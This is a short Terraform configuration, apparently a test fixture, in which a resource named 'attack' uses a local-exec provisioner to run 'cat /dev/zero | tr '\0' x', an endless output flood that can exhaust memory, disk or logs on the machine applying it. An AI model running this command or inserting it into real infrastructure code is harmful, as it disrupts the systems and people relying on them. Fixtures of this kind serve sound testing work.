resource "terraform_data" "attack" {
  provisioner "local-exec" {
    command = <<-EOT
      cat /dev/zero | tr '\0' x
    EOT
  }
}
